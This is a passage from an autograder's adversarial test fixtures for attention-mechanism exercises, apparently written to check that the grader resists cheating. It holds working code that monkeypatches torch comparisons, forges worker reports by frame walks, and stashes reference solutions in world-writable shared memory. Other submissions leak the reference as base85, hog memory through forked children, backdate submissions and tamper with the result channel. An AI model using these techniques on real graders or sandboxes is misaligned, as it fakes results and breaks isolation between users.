    return (inputs @ query).detach().clone().requires_grad_(True)
'''}})
sub("numpy_and_list_returns", "lose", [SA, "simple_attention.normalize_sum"],
    "attention_scores returns the right values as a numpy array, normalize_sum as a Python list",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Right values, as numpy."""
    return (inputs @ query).detach().numpy()
''', "normalize_sum": '''
def normalize_sum(scores):
    """Right values, as a list."""
    return (scores / scores.sum()).tolist()
'''}})
sub("nan_inf_returns", "lose", [SA, "simple_attention.normalize_sum"],
    "attention_scores returns NaN everywhere, normalize_sum +inf everywhere (a comparison written as "
    "not (diff > tol) would let NaN through)",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """NaN of the right shape."""
    return (inputs @ query) * float("nan")
''', "normalize_sum": '''
def normalize_sum(scores):
    """inf of the right shape."""
    return scores / 0.0 * scores.sign().abs()
'''}})

sub("non_utf8_module", "lose", TRAINABLE_STEPS,
    "trainable_attention.py has bytes that are not UTF-8 (0xe9 0xff, in a string literal; Python 3.11 tolerates them in comments): its steps are lost with a message "
    "that says so", raw={"trainable_attention": b"_NOTE = \"caf\xe9 \xff is not UTF-8\"\n"})

sub("init_raises", "full", [],
    "the package's __init__.py raises (SystemExit, after a RuntimeError is caught): the modules themselves are "
    "correct, so nothing may be lost",
    files={"__init__.py": INIT + "try:\n    raise RuntimeError('broken __init__')\nfinally:\n    raise SystemExit(3)\n"})
sub("init_patches_comparisons", "lose", [SA],
    "__init__.py patches torch.allclose/equal/isclose and Tensor.__eq__ to always agree, and attention_scores is "
    "wrong: no effect",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Wrong on purpose; __init__.py patched the comparisons."""
    return inputs @ query + 1.0
'''}},
    files={"__init__.py": INIT + '''import torch

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
'''})

sub("forge_worker_facts", "full", [],
    "init_qkv returns plain tensors instead of nn.Parameter, then patches the worker's own _tensor_facts (found in "
    "sys.modules) to report them as parameters: the worker's word that an output is an nn.Parameter earns and costs "
    "nothing (a note for the student, no point), so the trick has no effect",
    patch={"trainable_attention": {"init_qkv": '''
def init_qkv(d_in, d_out):
    """Plain tensors (not nn.Parameter), reported as parameters by a patched worker."""
    import sys
    for mod in list(sys.modules.values()):
        facts = getattr(mod, "_tensor_facts", None)
        if callable(facts) and not getattr(facts, "_forged", False):
            def forged(value, _orig=facts):
                result = _orig(value)
                if isinstance(result, dict):
                    result["parameter"] = True
                elif isinstance(result, list):
                    for item in result:
                        if isinstance(item, dict):
                            item["parameter"] = True
                return result
            forged._forged = True
            mod._tensor_facts = forged
    W_query = torch.rand(d_in, d_out)
    W_key = torch.rand(d_in, d_out)
    W_value = torch.rand(d_in, d_out)
    return W_query, W_key, W_value
'''}})


# ---------------------------------------------------------------------------------------------- reference code reachable from the worker
# Each trick below has an honest control: the same code without the trick (manifest: "control"). A sound grader
# gives the trick exactly what it gives its control ("score").
def _course():
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    from autograder.course import load_course
    return load_course(ROOT / "course.yml")


COURSE = _course()
ALL_STEPS = list(COURSE.steps)
MAX_POINTS = COURSE.max_points()


def all_but(*kept):
    return [s for s in ALL_STEPS if s not in kept]


def score_losing(steps, counts=None):
    """The score when ``steps`` lose their points (only ``counts`` of them, when given)."""
    return MAX_POINTS - sum(c.points for s in steps for name, c in COURSE.steps[s].counts.items()
                            if counts is None or name in counts)


def score_passing(passing):
    """The score when only these counts pass (step -> counts)."""
    return sum(COURSE.steps[s].counts[c].points for s, counts in passing.items() for c in counts)

OTHER_STEP_NAMES = sorted({s.split(".", 1)[1] for s in ALL_STEPS} - {"attention_scores"})

#: attention_scores, correct, with a dead branch that merely names every other step: dependencies.standins_for
#: then ships all of their reference code to this step's worker
NAMES_EVERY_STEP = '''
def attention_scores(inputs, query):
    """Correct. The dead branch never runs: naming the other steps is enough to be sent their reference code."""
    if False:
        (%s)
    return inputs @ query
''' % ",\n         ".join(", ".join(OTHER_STEP_NAMES[i:i + 4]) for i in range(0, len(OTHER_STEP_NAMES), 4))

SHM_KEY = 0x41545431  # "ATT1": a fixed System V IPC key, as two friends would agree on
SHM_LIB = '''
# ---- a System V shared-memory segment through libc (ctypes; no third-party package)
_ADV_KEY = %d
_ADV_SIZE = 1 << 20
_ADV_MAGIC = b"ATT1"


def _adv_segment(create):
    """Attach the segment (created with mode 0666 if asked: the next step runs under another uid); (libc, address) or None."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.restype, libc.shmget.argtypes = ctypes.c_int, [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.restype, libc.shmdt.argtypes = ctypes.c_int, [ctypes.c_void_p]
    shmid = libc.shmget(_ADV_KEY, _ADV_SIZE if create else 0, (0o1000 if create else 0) | 0o666)
    if shmid < 0:
        return None
    addr = libc.shmat(shmid, None, 0)
    if addr is None or addr == ctypes.c_void_p(-1).value:
        return None
    return libc, addr


def _adv_read():
    """step id -> source, as stashed in the segment (empty if there is none)."""
    import ctypes, json, struct
    seg = _adv_segment(False)
    if seg is None:
        return {}
    libc, addr = seg
    try:
        head = ctypes.string_at(addr, 8)
        if head[:4] != _ADV_MAGIC:
            return {}
        (size,) = struct.unpack("<I", head[4:])
        return json.loads(ctypes.string_at(addr + 8, min(size, _ADV_SIZE - 8)).decode())
    except Exception:
        return {}
    finally:
        libc.shmdt(addr)


def _adv_restore(namespace, module, keep=()):
    """Rebuild every stashed step as the grader builds its stand-ins, and bind this module's in its globals."""
    import math
    import torch.nn.functional as F
    shared = {}
    for step, source in _adv_read().items():
        name = step.split(".", 1)[1]
        scope = {"torch": torch, "nn": torch.nn, "F": F, "math": math, **shared}
        try:
            exec(compile(source, "<stashed " + step + ">", "exec"), scope)
        except Exception:
            continue
        shared[name] = scope[name]
        if step.split(".", 1)[0] == module and name not in keep:
            namespace[name] = scope[name]
''' % SHM_KEY

SHM_STASH = '''

def _adv_sources():
    """The stand-in sources shipped to this worker: the host's spawn request (host.run's message/op) is still on
    the stack of this forked process."""
    import gc, json, sys
    found = {}

    def take(value):
        if isinstance(value, (bytes, bytearray)):
            try:
                value = json.loads(bytes(value).decode())
            except Exception:
                return
        if isinstance(value, dict):
            spawn = value.get("spawn", value)
            standins = spawn.get("standins") if isinstance(spawn, dict) else None
            if isinstance(standins, dict):
                found.update((k, v) for k, v in standins.items() if isinstance(v, str))

    frame = sys._getframe(1)
    while frame is not None:
        for key in ("message", "op", "spawn", "request"):
            take(frame.f_locals.get(key))
        frame = frame.f_back
    if not found:
        for obj in gc.get_objects():
            if isinstance(obj, dict) and isinstance(obj.get("standins"), dict):
                take(obj)
    return found


def _adv_stash(own):
    """Add the stand-in sources found here (and this student's own code) to the segment."""
    import ctypes, json, struct
    sources = _adv_sources()
    if not sources:
        return
    stash = _adv_read()
    stash.update(own)
    stash.update(sources)
    data = json.dumps(stash).encode()
    seg = _adv_segment(True)
    if seg is None or len(data) > _ADV_SIZE - 8:
        return
    libc, addr = seg
    try:
        ctypes.memmove(addr + 8, data, len(data))
        ctypes.memmove(addr, _ADV_MAGIC + struct.pack("<I", len(data)), 8)
    finally:
        libc.shmdt(addr)
'''

OWN_ATTENTION_SCORES = {"simple_attention.attention_scores":
                        "def attention_scores(inputs, query):\n    return inputs @ query\n"}


def shm_append(stash):
    """Module-level code for every module: (stash, in simple_attention, imported first), then restore."""
    out = {}
    for mod in MODULES:
        code = SHM_LIB
        if stash and mod == "simple_attention":
            code += SHM_STASH + f"\n\n_adv_stash({OWN_ATTENTION_SCORES!r})\n"
        keep = ("attention_scores",) if stash and mod == "simple_attention" else ()
        code += f"_adv_restore(globals(), {mod!r}, keep={keep!r})\n"
        out[mod] = code
    return out


sub("stash_standins_sysv_shm", "lose", all_but(SA),
    "stubs from exercises/ except attention_scores (correct), whose dead branch names every other step, so its "
    "worker is sent all their reference code; at import, simple_attention finds it on the stack (host.run's "
    "message/op) and stores it in a System V shared-memory segment (ctypes shmget, fixed key 0x41545431, mode "
    "0666); every module, at import, rebuilds the stashed reference steps and binds them over its stubs: it must "
    "score what its control scores",
    base="stubs", patch={"simple_attention": {"attention_scores": NAMES_EVERY_STEP}}, append=shm_append(True),
    control="stash_standins_sysv_shm_control", score=score_losing(all_but(SA)))
sub("stash_standins_sysv_shm_control", "lose", all_but(SA),
    "control of stash_standins_sysv_shm: the same stubs and attention_scores (with its dead branch naming every "
    "step), no stash", base="stubs", patch={"simple_attention": {"attention_scores": NAMES_EVERY_STEP}},
    score=score_losing(all_but(SA)))
sub("stash_reader_sysv_shm", "lose", ALL_STEPS,
    "every step is the stub from exercises/; every module, at import, rebuilds whatever steps another submission "
    "stored in the System V segment with key 0x41545431 (see stash_standins_sysv_shm) and binds them over its "
    "stubs: nothing of another submission may reach it (under uid+rlimits the segment lives in the machine's IPC "
    "namespace; graded after the stash, or after any earlier grading run, it gets 81/81)",
    base="stubs", append=shm_append(False), control="stash_reader_sysv_shm_control", score=score_losing(ALL_STEPS),
    extra={"graded_after": "stash_standins_sysv_shm"})
sub("stash_reader_sysv_shm_control", "lose", ALL_STEPS,
    "control of stash_reader_sysv_shm: the stubs from exercises/, unchanged", base="stubs",
    score=score_losing(ALL_STEPS))

# --------------------------------------------------------------------------- delegation to the shipped reference
DELEGATE_V1 = '''
class SelfAttention_v1(nn.Module):
    """Parameters as specified; forward has no attention maths: it runs the grader's own MultiHeadAttention.forward."""

    def __init__(self, d_in, d_out):
        super().__init__()
        self.W_query = nn.Parameter(torch.rand(d_in, d_out))
        self.W_key = nn.Parameter(torch.rand(d_in, d_out))
        self.W_value = nn.Parameter(torch.rand(d_in, d_out))

    def forward(self, x):
%s
'''
DELEGATE_V2 = '''
class SelfAttention_v2(nn.Module):
    """Layers as specified; forward has no attention maths: it runs the grader's own MultiHeadAttention.forward."""

    def __init__(self, d_in, d_out, qkv_bias=False):
        super().__init__()
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)

    def forward(self, x):
%s
'''
DELEGATE_CA = '''
class CausalAttention(nn.Module):
    """Layers, dropout and mask as specified; forward has no attention maths: it runs the grader's own
    MultiHeadAttention.forward."""

    def __init__(self, d_in, d_out, context_length, dropout, qkv_bias=False):
        super().__init__()
        self.d_out = d_out
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("mask", torch.triu(torch.ones(context_length, context_length), diagonal=1))

    def forward(self, x):
%s
'''
PROXY_V1 = '''        import types
        from . import multihead_attention as mha  # its MultiHeadAttention is the grader's stand-in by now
        d_out, T = self.W_query.shape[1], x.shape[0]
        proxy = types.SimpleNamespace(
            W_query=lambda t: t @ self.W_query, W_key=lambda t: t @ self.W_key, W_value=lambda t: t @ self.W_value,
            num_heads=1, head_dim=d_out, d_out=d_out, out_proj=lambda t: t, dropout=lambda t: t, mask=torch.zeros(T, T))
        return mha.MultiHeadAttention.forward(proxy, x.unsqueeze(0)).squeeze(0)'''
PROXY_V2 = '''        import types
        from . import multihead_attention as mha  # its MultiHeadAttention is the grader's stand-in by now
        d_out, T = self.W_query.out_features, x.shape[0]
        proxy = types.SimpleNamespace(
            W_query=self.W_query, W_key=self.W_key, W_value=self.W_value,
            num_heads=1, head_dim=d_out, d_out=d_out, out_proj=lambda t: t, dropout=lambda t: t, mask=torch.zeros(T, T))
        return mha.MultiHeadAttention.forward(proxy, x.unsqueeze(0)).squeeze(0)'''
PROXY_CA = '''        import types
        from . import multihead_attention as mha  # its MultiHeadAttention is the grader's stand-in by now
        proxy = types.SimpleNamespace(
            W_query=self.W_query, W_key=self.W_key, W_value=self.W_value,
            num_heads=1, head_dim=self.d_out, d_out=self.d_out, out_proj=lambda t: t, dropout=self.dropout,
            mask=self.mask)
        return mha.MultiHeadAttention.forward(proxy, x)'''


def stub_forward(step):
    return f'        raise NotImplementedError("{step}: not attempted yet")'


DELEGATED = ["trainable_attention.SelfAttention_v1", "trainable_attention.SelfAttention_v2",
             "causal_attention.CausalAttention"]
sub("delegate_to_reference_mha", "lose", ALL_STEPS,
    "stubs from exercises/, except the __init__ of SelfAttention_v1/v2 and CausalAttention (parameters as "
    "specified) and their forwards, which do no attention maths: they call mha.MultiHeadAttention.forward (the "
    "grader's reference stand-in, shipped because the forward names it) on a one-head proxy of their own layers: "
    "the forwards must earn nothing (the score of the control)",
    base="stubs", patch={"trainable_attention": {"SelfAttention_v1": DELEGATE_V1 % PROXY_V1,
                                                  "SelfAttention_v2": DELEGATE_V2 % PROXY_V2},
                         "causal_attention": {"CausalAttention": DELEGATE_CA % PROXY_CA}},
    control="delegate_to_reference_mha_control", score=score_passing({s: ["parameters"] for s in DELEGATED}))
sub("delegate_to_reference_mha_control", "lose", ALL_STEPS,
    "control of delegate_to_reference_mha: the same __init__s, forwards left as stubs (NotImplementedError)",
    base="stubs", patch={"trainable_attention": {"SelfAttention_v1": DELEGATE_V1 % stub_forward(DELEGATED[0]),
                                                  "SelfAttention_v2": DELEGATE_V2 % stub_forward(DELEGATED[1])},
                         "causal_attention": {"CausalAttention": DELEGATE_CA % stub_forward(DELEGATED[2])}},
    score=score_passing({s: ["parameters"] for s in DELEGATED}))

# --------------------------------------------------------------------------- the reference in the feedback, encoded
LEAK_B85 = '''
def attention_scores(inputs, query):
    """Raises with the reference CausalAttention (shipped because the dead branch names it, found in host.run's
    ``message`` on the stack), as base85(zlib(source)): no line of it is readable as is."""
    import base64, json, sys, zlib
    if False:
        CausalAttention
    source = ""
    frame = sys._getframe(1)
    while frame is not None and not source:
        raw = frame.f_locals.get("message")
        if isinstance(raw, (bytes, bytearray)):
            try:
                source = json.loads(bytes(raw).decode())["spawn"]["standins"]["causal_attention.CausalAttention"]
            except Exception:
                pass
        frame = frame.f_back
    raise RuntimeError(%s)
'''
sub("leak_source_base85", "lose", [SA],
    "attention_scores names CausalAttention in a dead branch (so its worker is sent that reference), finds the "
    "source in host.run's message on the stack and raises RuntimeError(base85(zlib(source))): the feedback must "
    "hold nothing that decodes to a solution line (tests/leak_scan.py)",
    patch={"simple_attention": {"attention_scores": LEAK_B85 % (
        "base64.b85encode(zlib.compress(source.encode(), 9)).decode()")}},
    control="leak_source_base85_control", score=score_losing([SA]), extra={"no_decodable_solution_lines": True})
sub("leak_source_base85_control", "lose", [SA],
    "control of leak_source_base85: the same step (dead branch, stack search), raising base85(zlib()) of a "
    "harmless text instead of what it found",
    patch={"simple_attention": {"attention_scores": LEAK_B85 % (
        "base64.b85encode(zlib.compress(b'not the reference ' * 20, 9)).decode()")}},
    score=score_losing([SA]))

# --------------------------------------------------------------------------- forged worker facts, by a frame walk
FORGE_HELPER = '''
def _forge():
    """Walk up to runtime.run and rebind its module's globals: every tensor a parameter with a graph, no input
    ever modified."""
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        g = frame.f_globals
        if "_tensor_facts" in g and "_equal" in g:
            if not getattr(g["_tensor_facts"], "_forged", False):
                real = g["_tensor_facts"]

                def forged(value, _real=real):
                    facts = _real(value)
                    for item in facts if isinstance(facts, list) else [facts]:
                        if isinstance(item, dict):
                            item.update(parameter=True, requires_grad=True, grad_fn=item.get("grad_fn") or "MulBackward0")
                    return facts

                forged._forged = True
                g["_tensor_facts"] = forged
                g["_equal"] = lambda *a, **k: True
            return
        frame = frame.f_back


'''


def forge_patches(forge):
    call = "    _forge()\n" if forge else ""
    return {
        "simple_attention": {"normalize_sum": (FORGE_HELPER if forge else "") + '''
def normalize_sum(scores):
    """Right values; zeroes its input in place when no gradient is asked for (an honest bug)."""
%s    out = scores / scores.sum()
    if not scores.requires_grad:
        with torch.no_grad():
            scores.zero_()
    return out
''' % call},
        "trainable_attention": {"init_qkv": (FORGE_HELPER if forge else "") + '''
def init_qkv(d_in, d_out):
    """Right values, as plain tensors instead of nn.Parameter (an honest bug)."""
%s    W_query = torch.rand(d_in, d_out)
    W_key = torch.rand(d_in, d_out)
    W_value = torch.rand(d_in, d_out)
    return W_query, W_key, W_value
''' % call},
        "causal_attention": {"apply_dropout": (FORGE_HELPER if forge else "") + '''
def apply_dropout(attn_weights, p):
    """Right values, cut from the graph (an honest bug)."""
%s    return torch.nn.functional.dropout(attn_weights, p=p, training=True).detach()
''' % call},
    }


#: normalize_sum mutates only where no gradient is asked for (its values count); apply_dropout loses every count;
#: init_qkv's plain tensors get a note (no point rests on the worker's word that an output is an nn.Parameter)
FORGE_STEPS = ["simple_attention.normalize_sum", "causal_attention.apply_dropout"]
FORGE_SCORE = score_losing(["simple_attention.normalize_sum"], ["values"]) - (MAX_POINTS - score_losing(FORGE_STEPS[1:]))
sub("forge_facts_frame_walk", "lose", FORGE_STEPS,
    "three honest bugs (normalize_sum zeroes its input in place, init_qkv returns plain tensors, apply_dropout "
    "detaches its output), each step first walking sys._getframe up to runtime.run and rebinding its module "
    "globals _tensor_facts (always a parameter with a graph) and _equal (always equal): it must score what its "
    "control scores", patch=forge_patches(True), control="forge_facts_frame_walk_control", score=FORGE_SCORE)
sub("forge_facts_frame_walk_control", "lose", FORGE_STEPS,
    "control of forge_facts_frame_walk: the same three bugs, no forgery", patch=forge_patches(False),
    score=FORGE_SCORE)

HOOK_STEP = '''
def normalize_sum(scores):
    """Right values and gradients; zeroes its input's data in place every time (an honest bug).%s"""
    out = scores.clone() / scores.clone().sum()
%s    scores.data.zero_()
    return out
'''
HOOK_CODE = '''    if out.requires_grad:
        def hide(grad):
            import sys
            frame = sys._getframe(1)
            while frame is not None:
                answer = frame.f_locals.get("answer") if frame.f_code.co_name == "run" else None
                if isinstance(answer, dict) and "mutated" in answer:
                    answer["mutated"] = []
                    break
                frame = frame.f_back
            return grad
        out.register_hook(hide)
'''
sub("forge_answer_backward_hook", "lose", ["simple_attention.normalize_sum"],
    "normalize_sum zeroes its input's .data in place every time (an honest bug) and registers a backward hook on "
    "its output that walks up to runtime.run and empties answer['mutated'] (the answer dict is shared with the "
    "frame's f_locals): the counts with a backward (gradients) would hide the bug; it must score what its control "
    "scores",
    patch={"simple_attention": {"normalize_sum": HOOK_STEP % (" A backward hook hides it.", HOOK_CODE)}},
    control="forge_answer_backward_hook_control", score=score_losing(["simple_attention.normalize_sum"]))
sub("forge_answer_backward_hook_control", "lose", ["simple_attention.normalize_sum"],
    "control of forge_answer_backward_hook: the same bug, no hook",
    patch={"simple_attention": {"normalize_sum": HOOK_STEP % ("", "")}},
    score=score_losing(["simple_attention.normalize_sum"]))

# ------------------------------------------------------------- code of the student's on the worker's way out
#: Five steps with the same honest bug (each multiplies its input by 3 in place when no gradient is asked for: its
#: values counts lose, as the control's do), each with a trick to run code of its own between the end of its call
#: and the answer's bytes, and there hand back the input as it was before the call (the mutation hidden).
WAY_OUT_HELPER = '''
_SAVED = []  # each call's input as it was before the call modified it


def _saved_for(tensor):
    """The copy saved before ``tensor`` was modified in place, if ``tensor`` holds its values times 3."""
    base = torch._C.TensorBase
    with torch._C.DisableTorchFunction():
        now = base.detach(tensor)
        for before in _SAVED:
            if tuple(now.shape) == tuple(before.shape) and base.equal(now, before * 3):
                return before
    return None


def _forged_detach(self):
    """torch.Tensor.detach, rebound: the input as it was, for a tensor the step modified."""
    saved = _saved_for(self)
    return saved if saved is not None else torch._C.TensorBase.detach(self)


class _AsItWas(torch.Tensor):
    """Given to a modified input by __class__ assignment: its detach and clone answer the saved copy."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("detach", "clone") and args and _saved_for(args[0]) is not None:
            return _saved_for(args[0])
        with torch._C.DisableTorchFunction():
            return func(*args, **(kwargs or {}))


class _AsItWasMode(torch.overrides.TorchFunctionMode):
    """A torch function mode left on: the grader's own detach and clone of a modified input answer the saved copy."""

    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("detach", "clone") and args and isinstance(args[0], torch.Tensor):
            saved = _saved_for(args[0])
            if saved is not None:
                return saved
        return func(*args, **(kwargs or {}))


def _rebind_the_way_out():
    """Find the worker loop's frame (it holds the function that packs answers), then rebind every function of that
    function's module for one call: the first call undoes it all (the integrity check finds nothing), and sets
    args_after of the answer it is given to the saved inputs. Also tries the packer's own __defaults__."""
    import sys
    frame = sys._getframe(1)
    while frame is not None and "pack" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        return
    packer = frame.f_locals["pack"]
    space = packer.__globals__
    real = {name: value for name, value in space.items() if callable(value) and not isinstance(value, type)}

    def undo():
        space.update(real)

    def forge(value):
        if isinstance(value, dict) and isinstance(value.get("args_after"), list):
            value["args_after"] = [_saved_for(a) if isinstance(a, torch.Tensor) and _saved_for(a) is not None else a
                                   for a in value["args_after"]]

    def wrap(function):
        def forged(*args, **kwargs):
            undo()
            for a in args:
                forge(a)
            return function(*args, **kwargs)
        return forged

    for name, function in real.items():
        space[name] = wrap(function)
    if packer.__defaults__:
        try:
            packer.__defaults__ = tuple(wrap(d) if callable(d) and not isinstance(d, type) else d
                                        for d in packer.__defaults__)
        except (RuntimeError, TypeError):
            pass


def _rebind_a_global_of_the_caller(tensor):
    """``type`` rebound in the caller's module (the grader's, found by a frame walk) for one lookup after the call,
    which puts ``tensor`` back as it was."""
    import sys
    space = sys._getframe(2).f_globals
    saved = _SAVED[-1]

    def type_hook(value, *rest):
        del space["type"]
        tensor.copy_(saved)
        return type(value, *rest)
    space["type"] = type_hook


_KEEP = []


def _forge_from_a_finalizer(tensor):
    """A weakref's callback, run when the grader lets go of ``tensor``: every answer in memory says the arguments
    were as they were."""
    import gc
    import weakref
    saved = _SAVED[-1]

    def forge(_):
        for o in gc.get_objects():
            if type(o) is dict and o.get("ok") is True and "args_after" in o:
                o["args_after"] = [saved.clone()] + list(o["args_after"][1:])
    _KEEP.append(weakref.ref(tensor, forge))


def _forge_from_a_kernel(tensor):
    """A Python kernel for aten's clone on CPU (torch.library), which torch's dispatcher runs whatever Python hooks
    are off: a copy of ``tensor`` is the saved one."""
    pointer, saved = tensor.data_ptr(), _SAVED[-1]
    lib = torch.library.Library("aten", "IMPL")

    def clone(t, memory_format=None):
        if t.data_ptr() == pointer:
            return saved.new_empty(saved.shape).copy_(saved)
        return torch.empty_like(t).copy_(t)
    lib.impl("clone", clone, "CPU")
    _KEEP.append(lib)


def _drop_args_after_from_json():
    """json.JSONEncoder.encode, rebound: an answer's JSON says nothing of the arguments after the call."""
    import json
    real = json.JSONEncoder.encode

    def encode(self, o):
        if isinstance(o, dict) and "args_after" in o:
            o = {k: v for k, v in o.items() if k != "args_after"}
        return real(self, o)
    json.JSONEncoder.encode = encode
'''
#: step -> (module, its arguments, the one it modifies, its right values, the trick)
WAY_OUT_STEPS = {
    "simple_attention.normalize_sum": ("scores", "scores", "scores / scores.sum()",
                                       "torch.Tensor.detach = _forged_detach"),
    "simple_attention.softmax_naive": ("x", "x", "torch.exp(x) / torch.exp(x).sum(dim=0)", "x.__class__ = _AsItWas"),
    "simple_attention.attention_scores": ("inputs, query", "query", "inputs @ query", "_rebind_the_way_out()"),
    "simple_attention.context_vector": ("inputs, attn_weights", "attn_weights", "attn_weights @ inputs",
                                        "_AsItWasMode().__enter__()"),
    "simple_attention.all_attention_scores": ("inputs", "inputs", "inputs @ inputs.T",
                                              "_forge_from_a_kernel(inputs)"),
    "simple_attention.all_attention_weights": ("attn_scores", "attn_scores", "torch.softmax(attn_scores, dim=-1)",
                                               "_forge_from_a_finalizer(attn_scores)"),
    "causal_attention.causal_attention_weights": (
        "attn_scores, d_k", "attn_scores", "torch.softmax(attn_scores.masked_fill(torch.triu(torch.ones("
        "attn_scores.shape[-1], attn_scores.shape[-1], dtype=torch.bool), diagonal=1), -torch.inf) / d_k**0.5, "
        "dim=-1)", "_rebind_a_global_of_the_caller(attn_scores)"),
    "causal_attention.mask_and_renormalize": (
        "attn_weights", "attn_weights", "(lambda m: m / m.sum(dim=-1, keepdim=True))(attn_weights * torch.tril("
        "torch.ones(attn_weights.shape[-1], attn_weights.shape[-1], dtype=attn_weights.dtype)))",
        "_drop_args_after_from_json()"),
}
WAY_OUT_STEP = '''
def %(name)s(%(args)s):
    """Right values; multiplies %(arg)s by 3 in place when no gradient is asked for (an honest bug).%(doc)s"""
    out = %(body)s
    if not %(arg)s.requires_grad:
        _SAVED.append(%(arg)s.detach().clone())
        with torch.no_grad():
            %(arg)s.mul_(3)
%(trick)s    return out
'''


#: the one trick that puts the input itself back (the others rewrite what the worker says of it): its caller, the
#: trusted side reading its own buffer once the answer is in, sees the input as it was, as it would from a step that
#: puts it back before returning (the control's twin of it)
PUTS_IT_BACK = "causal_attention.causal_attention_weights"


def way_out_patches(forge):
    patches = {}
    for step, (args, arg, body, trick) in WAY_OUT_STEPS.items():
        module, name = step.split(".")
        first = module not in patches
        helper = WAY_OUT_HELPER if forge else "\n_SAVED = []  # each call's input as it was before the call modified it\n\n"
        honest = f"        {arg}.copy_(_SAVED[-1])\n" if step == PUTS_IT_BACK else ""
        patches.setdefault(module, {})[name] = (helper if first else "") + WAY_OUT_STEP % dict(
            name=name, args=args, arg=arg, body=body, doc=" It then hides that." if forge else "",
            trick=f"        {trick}\n" if forge else honest)
    return patches


WAY_OUT_ALL = list(WAY_OUT_STEPS)
WAY_OUT_LOST = [s for s in WAY_OUT_ALL if s != PUTS_IT_BACK]
sub("forge_facts_on_the_way_out", "lose", WAY_OUT_LOST,
    "eight steps each modify their input in place when no gradient is asked for (an honest bug: their values counts "
    "lose), and each then runs code of its own between the end of its call and the answer: torch.Tensor.detach "
    "rebound; the input given a __torch_function__ class by __class__ assignment; every function of the answer "
    "packer's module rebound for one call; a torch function mode left on; a Python kernel for aten's clone "
    "(torch.library); a weakref's callback rewriting args_after in every answer in memory; the worker's global `type` "
    "rebound for one lookup after the call, which puts the input back; json.JSONEncoder.encode rebound to drop "
    "args_after. In-place changes are read from the trusted side's own buffer once the answer is in, so no rewriting "
    "of what the worker says hides one; the step that puts its input back has left it as its caller sees it, as its "
    "control's twin does by putting it back before it returns: it must score what its control scores",
    patch=way_out_patches(True), control="forge_facts_on_the_way_out_control",
    score=score_losing(WAY_OUT_LOST, ["values"]))
sub("forge_facts_on_the_way_out_control", "lose", WAY_OUT_LOST,
    "control of forge_facts_on_the_way_out: the same eight bugs, no trick (causal_attention_weights puts its input "
    "back itself before it returns)", patch=way_out_patches(False), score=score_losing(WAY_OUT_LOST, ["values"]))

# --------------------------------------------------------------------------- a submission dating itself
EARLY = "2020-01-01 00:00:00"
sub("timestamp_in_submission", "full", [],
    f"a correct submission holding a timestamp.txt that says {EARLY} (nbgrader's format): the student's own files "
    "(timestamp.txt, file modification times) must not decide when it was handed in (extra_data.submitted_at)",
    files={"timestamp.txt": EARLY + "\n"}, control="timestamp_in_submission_control", score=MAX_POINTS,
    extra={"forged_submitted_at": "2020-01-01T00:00:00+00:00"})
sub("timestamp_in_submission_control", "full", [],
    "control of timestamp_in_submission: the same correct submission, no timestamp.txt", score=MAX_POINTS)

# --------------------------------------------------------------------------- memory, per process only
FORK_MEMORY = '''
_DONE = []


def attention_scores(inputs, query):
    """Correct; the first call in a worker waits for %s"""
    import os, time
    size = 1536 * 2**20
    children = []
    for _ in range(0 if _DONE else %d):
        pid = os.fork()
        if pid == 0:
            try:
                hog = b"\\x01" * size  # every page written
                time.sleep(1)
            finally:
                os._exit(0)
        children.append(pid)
    if not _DONE and not children:
        hog = b"\\x01" * size
        time.sleep(1)
        del hog
    for pid in children:
        os.waitpid(pid, 0)
    _DONE.append(True)
    return inputs @ query
'''
sub("fork_children_memory", "full", [],
    "attention_scores (its first call in a worker) forks 5 children that each write 1.5 GB at once (7.5 GB in "
    "all, bounded), sleep 1 s and exit; then returns the right value: the submission's memory budget (a control "
    "group) holds for all its processes together, so the children are killed once they pass it and the machine "
    "never sees 7.5 GB; the value itself is right (test_memory_is_limited_per_submission_not_per_process measures "
    "the machine's peak)",
    patch={"simple_attention": {"attention_scores": FORK_MEMORY % (
        "five forked children that each write 1.5 GB at once (7.5 GB in all) and exit 1 s later.", 5)}},
    control="fork_children_memory_control", score=MAX_POINTS,
    extra={"when_loaded": {"may_time_out": SA, "why": (
        "in the class's batch (two submissions at a time, beside the other memory attacks, on a loaded machine) the "
        "children may write up to 7.5 GB of fresh pages, one after another, before the budget (or, without a control "
        "group, the machine) has ended them all: the step may then end at its time limit, a zero for that step "
        "alone, never a gain; graded alone (beside the other tests' load only), "
        "test_memory_is_limited_per_submission_not_per_process requires the full score or that one time limit, and "
        "measures the machine's peak")}})
sub("fork_children_memory_control", "full", [],
    "control of fork_children_memory: the same step writing 1.5 GB once, in the worker itself (within the "
    "per-process limit), no child",
    patch={"simple_attention": {"attention_scores": FORK_MEMORY % (
        "itself to write 1.5 GB (no child) and 1 s.", 0)}},
    score=MAX_POINTS)



sub("patch_wire_send", "full", [],
    "attention_scores is correct but, walking up the frames, rebinds the worker's wire.send so that every failed "
    "answer would go out as a pass: what a worker sends is a claim, judged on the trusted side, so the trick has no "
    "effect",
    patch={"simple_attention": {"attention_scores": """
def attention_scores(inputs, query):
    \"\"\"Correct, and tampers with the grader's wire.\"\"\"
